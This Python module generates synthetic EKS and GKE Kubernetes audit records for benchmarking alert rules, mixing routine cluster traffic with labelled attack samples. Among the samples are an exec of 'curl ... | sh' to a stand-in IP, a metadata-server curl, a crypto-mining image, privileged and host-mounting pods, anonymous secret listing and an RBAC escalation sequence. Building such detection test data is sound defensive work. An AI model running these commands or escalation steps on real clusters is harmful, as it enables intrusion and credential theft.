"""Audit records for the benchmark and the kill test: everyday work of several clusters, and attacks with known alerts.

By default 85 % are reads, lease updates and status of nodes and controllers, some are people's and pipelines' writes,
and 1.5 % raise an alert. Shapes are those of real records (native events of EKS, LogEntries of GKE), every name is
invented. The same seed gives the same records.
"""

from __future__ import annotations

import json
import random
import re
from collections import Counter
from collections.abc import Callable, Iterable, Iterator, Mapping
from datetime import UTC, datetime, timedelta
from functools import cache
from typing import Any, Literal, NamedTuple

from leadsman_common.raw import RawEvent

Cloud = Literal["aws", "gcp"]
Json = dict[str, Any]

START = datetime(2026, 11, 2, 9, 0, tzinfo=UTC)
STEP = timedelta(milliseconds=2)  # between one record's time and the next one's
ALERTING = 0.015  # alerts a record
STORIES = 0.03  # of the attacks: a new role, its binding, its use; each use is joined with every role of its day


class Cluster(NamedTuple):
    """Where a record comes from; `account` is Google's project."""

    cloud: Cloud
    name: str
    account: str
    region: str


CLUSTERS = (
    Cluster("aws", "harbour", "111122223333", "eu-west-1"),
    Cluster("aws", "lighthouse", "111122223333", "eu-west-1"),
    Cluster("aws", "drydock", "444455556666", "eu-west-1"),
    Cluster("gcp", "shipyard", "example-shipyard", "europe-west4"),
    Cluster("gcp", "chandlery", "example-chandlery", "europe-west1"),
)


class Sample(NamedTuple):
    """One record and the slugs of the alerts that come of it, inventories left out."""

    cluster: Cluster
    value: bytes
    raises: tuple[str, ...] = ()


def samples(count: int, *, seed: int = 7, alerting: float = ALERTING, stories: float = STORIES) -> Iterator[Sample]:
    """Give `count` records in order of time; a story is three of them, and two alerts."""
    rng = random.Random(seed)
    waiting: list[Sample] = []
    share = alerting / (1 + stories)
    for n in range(count):
        at = START + STEP * n
        if waiting:
            yield waiting.pop(0)
            continue
        cluster = CLUSTERS[rng.randrange(len(CLUSTERS))]
        if rng.random() < share:
            waiting += _attack(rng, cluster, n, at, stories if count - n >= 3 else 0)
            yield waiting.pop(0)
        else:
            yield Sample(cluster, _everyday(rng, cluster, n, at))


def expected(records: Iterable[Sample]) -> Counter[str]:
    """How many alerts of each slug come of these records."""
    return Counter(slug for sample in records for slug in sample.raises)


def counted(alert: Mapping[str, Any]) -> bool:
    """Whether `expected` knows of an alert: of inventories it does not."""
    level: str = alert["rule"]["level"]
    return level != "informational"


def raw_of(sample: Sample, n: int, received_ms: int = 0) -> RawEvent:
    """The record as ingest puts it on its raw topic; `n` makes its source id."""
    if sample.cluster.cloud == "gcp":
        return RawEvent(sample.value, "gke-logentry", provider="gcp", source_id=f"{n}", received_ms=received_ms)
    return RawEvent(
        sample.value,
        "eks-audit",
        cluster=sample.cluster.name,
        account=sample.cluster.account,
        region=sample.cluster.region,
        provider="aws",
        source_id=f"{n:056d}",
        received_ms=received_ms,
        log_stream="kube-apiserver-audit-0123456789abcdef0123456789abcdef",
    )


# --- rendering -------------------------------------------------------------------------------------------------
# A record is a template with §marks§, made into bytes once; what differs is put in by bytes.__mod__, since the
# benchmark needs hundreds of thousands of them.


@cache
def _template(make: Callable[[Cluster], Json], cluster: Cluster) -> bytes:
    text = json.dumps(make(cluster), separators=(",", ":"), ensure_ascii=False).replace("%", "%%")
    return re.sub("§([a-z]+)§", r"%(\1)s", text).encode()


def _render(make: Callable[[Cluster], Json], cluster: Cluster, rng: random.Random, n: int, at: datetime) -> bytes:
    digits = f"{rng.getrandbits(128):032x}"
    marks = {
        b"id": f"{digits[:8]}-{digits[8:12]}-4{digits[13:16]}-a{digits[17:20]}-{digits[20:]}".encode(),
        b"n": b"%d" % n,
        b"k": b"%d" % (n % 23),  # one of a few: nodes, apps
        b"ip": b"198.18.%d.%d" % (n // 250 % 250, n % 250 + 1),  # another for each
        b"at": _stamp(at),
        b"done": _stamp(at + timedelta(milliseconds=3 + n % 40)),
    }
    return _template(make, cluster) % marks


def _stamp(at: datetime) -> bytes:
    return at.isoformat(timespec="microseconds")[:26].encode() + b"Z"


# --- everyday --------------------------------------------------------------------------------------------------


def _everyday(rng: random.Random, cluster: Cluster, n: int, at: datetime) -> bytes:
    makers = _EVERYDAY[cluster.cloud]
    return _render(rng.choices(list(makers), list(makers.values()))[0], cluster, rng, n, at)


def _event(verb: str, uri: str, user: Json, agent: str, ref: Json | None, code: int = 200, **more: Any) -> Json:
    """Make a native event. `more`: level, reason, ip, stage, requestObject, responseObject."""
    level = more.pop("level", "RequestResponse" if "responseObject" in more else "Metadata")
    reason, decision = more.pop("reason", ""), more.pop("decision", "allow")
    event: Json = {
        "kind": "Event",
        "apiVersion": "audit.k8s.io/v1",
        "level": level,
        "auditID": "§id§",
        "stage": more.pop("stage", "ResponseComplete"),
        "requestURI": uri,
        "verb": verb,
        "user": user,
        "sourceIPs": [more.pop("ip", "10.20.31.7")],
        "userAgent": agent,
    }
    if ref is not None:
        event["objectRef"] = {**ref, "apiVersion": "v1"}
    return {
        **event,
        "responseStatus": {"metadata": {}, "code": code},
        **more,
        "requestReceivedTimestamp": "§at§",
        "stageTimestamp": "§done§",
        "annotations": {"authorization.k8s.io/decision": decision, "authorization.k8s.io/reason": reason},
    }


_KUBELET = "kubelet/v1.34.1 (linux/amd64) kubernetes/93248f9"
_KUBECTL = "kubectl/v1.34.1 (linux/amd64) kubernetes/93248f9"
_NODE = "ip-10-20-31-§k§.eu-west-1.compute.internal"
_NODE_USER = {
    "username": f"system:node:{_NODE}",
    "uid": "aws-iam-authenticator:111122223333:AROAEXAMPLENODE",
    "groups": ["system:bootstrappers", "system:nodes", "system:authenticated"],
    "extra": {
        "accessKeyId": ["ASIAEXAMPLEEXAMPLE01"],
        "arn": ["arn:aws:sts::111122223333:assumed-role/node/i-0123456789abcdef0"],
        "canonicalArn": ["arn:aws:iam::111122223333:role/node"],
        "principalId": ["AROAEXAMPLENODE"],
        "sessionName": ["i-0123456789abcdef0"],
    },
}


def _account(namespace: str, name: str) -> Json:
    groups = ["system:serviceaccounts", f"system:serviceaccounts:{namespace}", "system:authenticated"]
    extra = {"authentication.kubernetes.io/credential-id": ["JTI=1a856c79-1787-422c-b491-1c17c448a802"]}
    return {"username": f"system:serviceaccount:{namespace}:{name}", "uid": "§id§", "groups": groups, "extra": extra}


def _person(cluster: Cluster, role: str, session: str, *groups: str) -> Json:
    arn = f"arn:aws:sts::{cluster.account}:assumed-role/{role}/{session}"
    return {
        "username": arn,
        "uid": f"aws-iam-authenticator:{cluster.account}:AROAEXAMPLE{role.upper()}",
        "groups": [*groups, "system:authenticated"],
        "extra": {
            "accessKeyId": ["ASIAEXAMPLEEXAMPLE02"],
            "arn": [arn],
            "canonicalArn": [f"arn:aws:iam::{cluster.account}:role/{role}"],
            "principalId": [f"AROAEXAMPLE{role.upper()}"],
            "sessionName": [session],
        },
    }


def _meta(name: str, namespace: str = "") -> Json:
    where = {"namespace": namespace} if namespace else {}
    managed = {"manager": "kubelet", "operation": "Update", "time": "2026-11-01T07:00:00Z", "fieldsType": "FieldsV1"}
    return {
        "name": name,
        **where,
        "uid": "817f1499-f8d2-455a-b94c-a95bfedab373",
        "resourceVersion": "§n§",
        "creationTimestamp": "2026-10-01T07:00:00Z",
        "managedFields": [{**managed, "apiVersion": "v1", "fieldsV1": {"f:spec": {"f:renewTime": {}}}}],
    }


def _lease(_cluster: Cluster) -> Json:
    spec = {"holderIdentity": _NODE, "leaseDurationSeconds": 40, "renewTime": "§at§"}
    body = {"kind": "Lease", "apiVersion": "coordination.k8s.io/v1", "metadata": _meta(_NODE, "kube-node-lease")}
    return _event(
        "update",
        f"/apis/coordination.k8s.io/v1/namespaces/kube-node-lease/leases/{_NODE}?timeout=10s",
        _NODE_USER,
        _KUBELET,
        {"resource": "leases", "namespace": "kube-node-lease", "name": _NODE, "apiGroup": "coordination.k8s.io"},
        requestObject={**body, "spec": spec},
        responseObject={**body, "spec": spec},
    )


def _node_status(_cluster: Cluster) -> Json:
    kinds = ("MemoryPressure", "DiskPressure", "PIDPressure", "Ready")
    conditions = [
        {"type": kind, "status": "False", "reason": f"Kubelet{kind}", "message": "kubelet has enough of it",
         "lastHeartbeatTime": "§at§", "lastTransitionTime": "2026-10-01T07:00:00Z"}
        for kind in kinds
    ]  # fmt: skip
    images = [{"names": [f"registry.example.com/base/image-{i}:1.{i}"], "sizeBytes": 31_000_000 + i} for i in range(20)]
    status = {"capacity": {"cpu": "4", "memory": "16Gi"}, "conditions": conditions, "images": images}
    return _event(
        "patch",
        f"/api/v1/nodes/{_NODE}/status?timeout=10s",
        _NODE_USER,
        _KUBELET,
        {"resource": "nodes", "name": _NODE, "subresource": "status"},
        requestObject={"status": {"conditions": conditions}},
        responseObject={"kind": "Node", "apiVersion": "v1", "metadata": _meta(_NODE), "status": status},
    )


def _node_reads(_cluster: Cluster) -> Json:
    return _event(
        "get",
        "/api/v1/namespaces/payments/pods/ledger-api-§k§",
        _NODE_USER,
        _KUBELET,
        {"resource": "pods", "namespace": "payments", "name": "ledger-api-§k§"},
        level="Request",
    )


def _controller_watch(_cluster: Cluster) -> Json:
    return _event(
        "watch",
        "/api/v1/configmaps?allowWatchBookmarks=true&resourceVersion=§n§&timeoutSeconds=431&watch=true",
        _account("kube-system", "generic-garbage-collector"),
        "kube-controller-manager/v1.34.1 (linux/amd64) kubernetes/93248f9/metadata-informers",
        {"resource": "configmaps"},
    )


def _controller_get(_cluster: Cluster) -> Json:
    return _event(
        "get",
        "/apis/apps/v1/namespaces/payments/deployments/checkout-§k§",
        _account("argo", "application-controller"),
        "argocd-application-controller/v3.1.8",
        {"resource": "deployments", "namespace": "payments", "name": "checkout-§k§", "apiGroup": "apps"},
        level="Request",
        reason='RBAC: allowed by ClusterRoleBinding "argo" of ClusterRole "argo" to ServiceAccount "argo/argo"',
    )


def _slice(_cluster: Cluster) -> Json:
    body = {
        "kind": "EndpointSlice",
        "apiVersion": "discovery.k8s.io/v1",
        "metadata": _meta("checkout-§k§-r8x2c", "payments"),
        "addressType": "IPv4",
        "endpoints": [{"addresses": [f"10.20.40.{i}"], "conditions": {"ready": True}} for i in range(4)],
        "ports": [{"name": "http", "protocol": "TCP", "port": 8080}],
    }
    ref = {"resource": "endpointslices", "namespace": "payments", "name": "checkout-§k§-r8x2c"}
    return _event(
        "update",
        "/apis/discovery.k8s.io/v1/namespaces/payments/endpointslices/checkout-§k§-r8x2c",
        _account("kube-system", "endpointslice-controller"),
        "kube-controller-manager/v1.34.1 (linux/amd64) kubernetes/93248f9",
        {**ref, "apiGroup": "discovery.k8s.io"},
        requestObject=body,
        responseObject=body,
    )


def _token(_cluster: Cluster) -> Json:
    spec = {"audiences": ["https://kubernetes.default.svc"], "expirationSeconds": 3607}
    return _event(
        "create",
        "/api/v1/namespaces/payments/serviceaccounts/ledger-api/token",
        _NODE_USER,
        _KUBELET,
        {"resource": "serviceaccounts", "namespace": "payments", "name": "ledger-api", "subresource": "token"},
        201,
        level="Request",
        requestObject={"kind": "TokenRequest", "apiVersion": "authentication.k8s.io/v1", "spec": spec},
    )


def _person_lists(cluster: Cluster) -> Json:
    return _event(
        "list",
        "/api/v1/namespaces/payments/pods?limit=500",
        _person(cluster, "developer", "ana.lindqvist", "developers"),
        _KUBECTL,
        {"resource": "pods", "namespace": "payments"},
        level="Request",
        ip="198.51.100.12",
        reason='RBAC: allowed by RoleBinding "developers/payments" of Role "developer" to Group "developers"',
    )


def _person_execs(cluster: Cluster) -> Json:
    return _event(
        "get",
        "/api/v1/namespaces/payments/pods/checkout-§k§/exec?command=cat&command=%2Fapp%2Fversion&stdout=true",
        _person(cluster, "developer", "joao.pereira", "developers"),
        _KUBECTL,
        {"resource": "pods", "namespace": "payments", "name": "checkout-§k§", "subresource": "exec"},
        101,
        level="Request",
        ip="198.51.100.12",
        reason='RBAC: allowed by RoleBinding "developers/payments" of Role "developer" to Group "developers"',
    )


def _deploy(cluster: Cluster) -> Json:
    image = "registry.example.com/shop/checkout-§k§:2026.11.§n§"
    container = {
        "name": "checkout",
        "image": image,
        "command": ["/app/serve"],
        "args": ["--listen=:8080"],
        "ports": [{"containerPort": 8080, "protocol": "TCP"}],
        "resources": {"limits": {"cpu": "1", "memory": "512Mi"}},
        "securityContext": {"allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]}},
        "volumeMounts": [{"name": "settings", "mountPath": "/etc/checkout"}],
    }
    pod = {"containers": [container], "volumes": [{"name": "settings", "configMap": {"name": "checkout"}}]}
    template = {"metadata": {"labels": {"app": "checkout-§k§"}}, "spec": pod}
    return _event(
        "patch",
        "/apis/apps/v1/namespaces/payments/deployments/checkout-§k§?fieldManager=kubectl-set",
        _person(cluster, "release", "pipeline-§n§", "release"),
        _KUBECTL,
        {"resource": "deployments", "namespace": "payments", "name": "checkout-§k§", "apiGroup": "apps"},
        ip="10.20.8.30",
        requestObject={"spec": {"template": {"spec": {"containers": [{"name": "checkout", "image": image}]}}}},
        responseObject={
            "kind": "Deployment",
            "apiVersion": "apps/v1",
            "metadata": _meta("checkout-§k§", "payments"),
            "spec": {"replicas": 2, "selector": {"matchLabels": {"app": "checkout-§k§"}}, "template": template},
            "status": {"observedGeneration": 4, "replicas": 2, "readyReplicas": 2},
        },
    )


def _create_pod(_cluster: Cluster) -> Json:
    return _pod("batch-§n§", {"name": "batch", "image": "registry.example.com/shop/batch:7"})


# --- everyday on GKE -------------------------------------------------------------------------------------------


def _entry(cluster: Cluster, who: str, verb: str, method: str, name: str, **more: Any) -> Json:
    """Make a LogEntry. `more`: agent, ip, reason, labels, request, response, log."""
    permission = f"io.k8s.{method}.{verb}"
    bodies = {key: more.pop(key) for key in ("request", "response") if key in more}
    return {
        "insertId": "§id§",
        "labels": {
            "authorization.k8s.io/decision": "allow",
            "authorization.k8s.io/reason": more.pop("reason", "access granted by IAM permissions."),
            **more.pop("labels", {}),
        },
        "logName": f"projects/{cluster.account}/logs/cloudaudit.googleapis.com%2F{more.pop('log', 'activity')}",
        "operation": {"first": True, "id": "§id§", "last": True, "producer": "k8s.io"},
        "protoPayload": {
            "@type": "type.googleapis.com/google.cloud.audit.AuditLog",
            "authenticationInfo": {"principalEmail": who},
            "authorizationInfo": [{"granted": True, "permission": permission, "resource": name}],
            "methodName": permission,
            "requestMetadata": {
                "callerIp": more.pop("ip", "10.164.0.5"),
                "callerSuppliedUserAgent": more.pop("agent", _KUBECTL),
            },
            "resourceName": name,
            "serviceName": "k8s.io",
            "status": {},
            **bodies,
        },
        "receiveTimestamp": "§done§",
        "resource": {
            "labels": {"cluster_name": cluster.name, "location": cluster.region, "project_id": cluster.account},
            "type": "k8s_cluster",
        },
        "severity": "NOTICE",
        "timestamp": "§at§",
        **more,
    }


def _gke_lease(cluster: Cluster) -> Json:
    name = "coordination.k8s.io/v1/namespaces/kube-system/leases/ingress-gce-§k§"
    who = "system:serviceaccount:kube-system:ingress-gce"
    return _entry(cluster, who, "update", "coordination.v1.leases", name, agent="ingress-gce/v1.34", ip="172.16.0.2")


def _gke_node_status(cluster: Cluster) -> Json:
    node = "gke-shipyard-pool-1-3f9a61c2-§k§"
    return _entry(
        cluster, f"system:node:{node}", "patch", "core.v1.nodes.status", f"core/v1/nodes/{node}/status", agent=_KUBELET
    )


def _gke_reads(cluster: Cluster) -> Json:
    name = "core/v1/namespaces/etl/pods/loader-§k§"
    who = "system:serviceaccount:argo:application-controller"
    return _entry(cluster, who, "get", "core.v1.pods", name, agent="argocd/v3.1.8", log="data_access")


def _gke_slice(cluster: Cluster) -> Json:
    who = "system:serviceaccount:kube-system:endpointslice-controller"
    name = "discovery.k8s.io/v1/namespaces/etl/endpointslices/loader-§k§-q5wzk"
    agent = "kube-controller-manager/v1.33.4 (linux/amd64) kubernetes/d2a3b1c"
    return _entry(cluster, who, "update", "discovery.v1.endpointslices", name, agent=agent, ip="172.16.0.2")


def _gke_deploy(cluster: Cluster) -> Json:
    image = f"europe-west4-docker.pkg.dev/{cluster.account}/images/loader-§k§:r§n§"
    spec = {"template": {"spec": {"containers": [{"name": "loader", "image": image}]}}}
    kind = {"@type": "apps.k8s.io/v1.Deployment", "apiVersion": "apps/v1", "kind": "Deployment"}
    return _entry(
        cluster,
        f"releases@{cluster.account}.iam.gserviceaccount.com",
        "patch",
        "apps.v1.deployments",
        "apps/v1/namespaces/etl/deployments/loader-§k§",
        request={"@type": "k8s.io/Patch", "spec": spec},
        response={**kind, "metadata": _meta("loader-§k§", "etl"), "spec": spec},
    )


_EVERYDAY: dict[Cloud, dict[Callable[[Cluster], Json], float]] = {  # percent
    "aws": {
        _lease: 32,
        _node_status: 8,
        _node_reads: 14,
        _controller_watch: 10,
        _controller_get: 12,
        _slice: 9,
        _token: 5,
        _person_lists: 6,
        _person_execs: 0.3,
        _deploy: 2.2,
        _create_pod: 1.5,
    },
    "gcp": {_gke_lease: 38, _gke_node_status: 12, _gke_reads: 25, _gke_slice: 20, _gke_deploy: 5},
}


# --- attacks ---------------------------------------------------------------------------------------------------


def _attack(rng: random.Random, cluster: Cluster, n: int, at: datetime, stories: float) -> list[Sample]:
    """Make the records of one attack: one, or the three of a story."""
    if rng.random() < stories:
        slugs = ("cluster-role-exec",), (), ("exec-by-new-role",)
        return [
            # all three speak of the same names: the number is the story's
            Sample(cluster, _render(make, cluster, rng, n, at + STEP * step), slugs[step])
            for step, make in enumerate(_STORY[cluster.cloud])
        ]
    make, slug = rng.choice(_SINGLE[cluster.cloud])
    return [Sample(cluster, _render(make, cluster, rng, n, at), (slug,))]


def _pod(name: str, container: Json, **spec: Any) -> Json:
    pod = {
        "kind": "Pod",
        "apiVersion": "v1",
        "metadata": {"name": name, "namespace": "batch", "labels": {"app": "batch"}},
        "spec": {"containers": [container], **spec},
    }
    return _event(
        "create",
        "/api/v1/namespaces/batch/pods?fieldManager=kubectl-client-side-apply",
        _account("batch", "runner"),
        _KUBECTL,
        {"resource": "pods", "namespace": "batch", "name": name},
        201,
        ip="203.0.113.66",
        requestObject=pod,
        responseObject=pod,
    )


def _privileged_pod(_cluster: Cluster) -> Json:
    image = "docker.io/library/alpine:3.22"
    return _pod("job-§n§", {"name": "job", "image": image, "securityContext": {"privileged": True}})


def _host_path_pod(_cluster: Cluster) -> Json:
    mount = {"name": "host", "mountPath": "/host"}
    return _pod(
        "copy-§n§",
        {"name": "copy", "image": "docker.io/library/alpine:3.22", "volumeMounts": [mount]},
        volumes=[{"name": "host", "hostPath": {"path": "/etc/kubernetes", "type": ""}}],
    )


def _mining_pod(_cluster: Cluster) -> Json:
    return _pod("worker-§n§", {"name": "worker", "image": "docker.io/xmrig/xmrig:6.24.0"})


def _anonymous_secrets(_cluster: Cluster) -> Json:
    return _event(
        "list",
        "/api/v1/namespaces/batch/secrets?limit=500",
        {"username": "system:anonymous", "groups": ["system:unauthenticated"]},
        "Go-http-client/2.0",
        {"resource": "secrets", "namespace": "batch"},
        ip="§ip§",
        reason='RBAC: allowed by RoleBinding "open/batch" of Role "open" to Group "system:unauthenticated"',
    )


def _download_in_pod(cluster: Cluster) -> Json:
    command = "command=sh&command=-c&command=curl+-s+http%3A%2F%2F198.51.100.23%2Fi+%7C+sh"
    return _event(
        "get",
        f"/api/v1/namespaces/payments/pods/checkout-§k§/exec?{command}&stdout=true",
        _person(cluster, "contractor", "tomas.vogel", "contractors"),
        _KUBECTL,
        {"resource": "pods", "namespace": "payments", "name": "checkout-§k§", "subresource": "exec"},
        101,
        level="Request",
        ip="203.0.113.118",
        reason='RBAC: allowed by ClusterRoleBinding "support" of ClusterRole "support" to Group "contractors"',
    )


def _node_port(cluster: Cluster) -> Json:
    spec = {"type": "NodePort", "selector": {"app": "batch"}, "ports": [{"port": 9000, "nodePort": 31000}]}
    body = {"kind": "Service", "apiVersion": "v1", "metadata": {"name": "debug-§n§", "namespace": "batch"}}
    return _event(
        "create",
        "/api/v1/namespaces/batch/services",
        _person(cluster, "contractor", "tomas.vogel", "contractors"),
        _KUBECTL,
        {"resource": "services", "namespace": "batch", "name": "debug-§n§"},
        201,
        requestObject={**body, "spec": spec},
        responseObject={**body, "spec": spec},
    )


_RBAC = "rbac.authorization.k8s.io"
_EXEC_RULE = {"verbs": ["create"], "apiGroups": [""], "resources": ["pods/exec"]}


def _new_role(cluster: Cluster) -> Json:
    body = {"kind": "ClusterRole", "apiVersion": f"{_RBAC}/v1", "metadata": {"name": "ext-§n§"}, "rules": [_EXEC_RULE]}
    return _event(
        "create",
        f"/apis/{_RBAC}/v1/clusterroles",
        _person(cluster, "ci", "pipeline", "deployers"),
        _KUBECTL,
        {"resource": "clusterroles", "name": "ext-§n§", "apiGroup": _RBAC},
        201,
        requestObject=body,
        responseObject=body,
    )


def _new_binding(cluster: Cluster) -> Json:
    body = {
        "kind": "ClusterRoleBinding",
        "apiVersion": f"{_RBAC}/v1",
        "metadata": {"name": "ext-§n§"},
        "subjects": [{"kind": "Group", "apiGroup": _RBAC, "name": "guests-§n§"}],
        "roleRef": {"apiGroup": _RBAC, "kind": "ClusterRole", "name": "ext-§n§"},
    }
    return _event(
        "create",
        f"/apis/{_RBAC}/v1/clusterrolebindings",
        _person(cluster, "ci", "pipeline", "deployers"),
        _KUBECTL,
        {"resource": "clusterrolebindings", "name": "ext-§n§", "apiGroup": _RBAC},
        201,
        requestObject=body,
        responseObject=body,
    )


def _guest_execs(cluster: Cluster) -> Json:
    return _event(
        "create",
        "/api/v1/namespaces/payments/pods/checkout-§k§/exec?command=env&stdout=true",
        _person(cluster, "guest", "guest-§n§", "guests-§n§"),
        _KUBECTL,
        {"resource": "pods", "namespace": "payments", "name": "checkout-§k§", "subresource": "exec"},
        101,
        level="Request",
        ip="203.0.113.118",
        reason='RBAC: allowed by ClusterRoleBinding "ext-§n§" of ClusterRole "ext-§n§" to Group "guests-§n§"',
    )


# --- attacks on GKE --------------------------------------------------------------------------------------------


def _typed(kind: str, api: str, **fields: Any) -> Json:
    group = "core.k8s.io/v1" if api == "v1" else api if ".k8s.io" in api else api.replace("/", ".k8s.io/")
    return {"@type": f"{group}.{kind}", "apiVersion": api, "kind": kind, **fields}


def _gke_privileged_pod(cluster: Cluster) -> Json:
    container = {"name": "job", "image": "docker.io/library/alpine:3.22", "securityContext": {"privileged": True}}
    pod = _typed("Pod", "v1", metadata={"name": "job-§n§", "namespace": "etl"}, spec={"containers": [container]})
    return _entry(
        cluster,
        "mira.okafor@example.com",
        "create",
        "core.v1.pods",
        "core/v1/namespaces/etl/pods/job-§n§",
        ip="203.0.113.118",
        request=pod,
        response=pod,
    )


def _gke_host_network(cluster: Cluster) -> Json:
    pod = {"hostNetwork": True, "containers": [{"name": "probe", "image": "docker.io/library/alpine:3.22"}]}
    spec = {"replicas": 1, "template": {"metadata": {"labels": {"app": "probe"}}, "spec": pod}}
    body = _typed("Deployment", "apps/v1", metadata={"name": "probe-§n§", "namespace": "etl"}, spec=spec)
    return _entry(
        cluster,
        "mira.okafor@example.com",
        "create",
        "apps.v1.deployments",
        "apps/v1/namespaces/etl/deployments/probe-§n§",
        ip="203.0.113.118",
        request=body,
        response=body,
    )


def _gke_load_balancer(cluster: Cluster) -> Json:
    spec = {"type": "LoadBalancer", "selector": {"app": "loader"}, "ports": [{"port": 8443, "protocol": "TCP"}]}
    body = _typed("Service", "v1", metadata={"name": "debug-§n§", "namespace": "etl"}, spec=spec)
    return _entry(
        cluster,
        "mira.okafor@example.com",
        "create",
        "core.v1.services",
        "core/v1/namespaces/etl/services/debug-§n§",
        ip="203.0.113.118",
        request=body,
        response=body,
    )


def _gke_metadata_in_pod(cluster: Cluster) -> Json:
    command = "sh -c curl -H Metadata-Flavor:Google http://metadata.google.internal/computeMetadata/v1/instance/"
    return _entry(
        cluster,
        "mira.okafor@example.com",
        "create",
        "core.v1.pods.exec",
        "core/v1/namespaces/etl/pods/loader-§k§/exec",
        ip="203.0.113.118",
        labels={"command.gke.io/command": command},
    )


def _gke_new_role(cluster: Cluster) -> Json:
    body = _typed("ClusterRole", f"{_RBAC}/v1", metadata={"name": "ext-§n§"}, rules=[_EXEC_RULE])
    return _entry(
        cluster,
        f"deployer@{cluster.account}.iam.gserviceaccount.com",
        "create",
        "authorization.rbac.v1.clusterroles",
        f"{_RBAC}/v1/clusterroles/ext-§n§",
        request=body,
        response=body,
    )


def _gke_new_binding(cluster: Cluster) -> Json:
    body = _typed(
        "ClusterRoleBinding",
        f"{_RBAC}/v1",
        metadata={"name": "ext-§n§"},
        roleRef={"apiGroup": _RBAC, "kind": "ClusterRole", "name": "ext-§n§"},
        subjects=[{"apiGroup": _RBAC, "kind": "User", "name": "guest-§n§@example.com"}],
    )
    return _entry(
        cluster,
        f"deployer@{cluster.account}.iam.gserviceaccount.com",
        "create",
        "authorization.rbac.v1.clusterrolebindings",
        f"{_RBAC}/v1/clusterrolebindings/ext-§n§",
        request=body,
        response=body,
    )


def _gke_guest_execs(cluster: Cluster) -> Json:
    return _entry(
        cluster,
        "guest-§n§@example.com",
        "create",
        "core.v1.pods.exec",
        "core/v1/namespaces/etl/pods/loader-§k§/exec",
        ip="203.0.113.118",
        labels={"command.gke.io/command": "env"},
    )


_SINGLE: dict[Cloud, list[tuple[Callable[[Cluster], Json], str]]] = {
    "aws": [
        (_privileged_pod, "privileged-container"),
        (_host_path_pod, "sensitive-volume"),
        (_mining_pod, "crypto-mining-image"),
        (_anonymous_secrets, "unauthenticated-request-allowed"),
        (_download_in_pod, "dangerous-container-command"),
        (_node_port, "service-exposed"),
    ],
    "gcp": [
        (_gke_privileged_pod, "privileged-container"),
        (_gke_host_network, "host-network-pod"),
        (_gke_load_balancer, "service-exposed"),
        (_gke_metadata_in_pod, "dangerous-container-command"),
    ],
}
_STORY: dict[Cloud, tuple[Callable[[Cluster], Json], ...]] = {
    "aws": (_new_role, _new_binding, _guest_execs),
    "gcp": (_gke_new_role, _gke_new_binding, _gke_guest_execs),
}
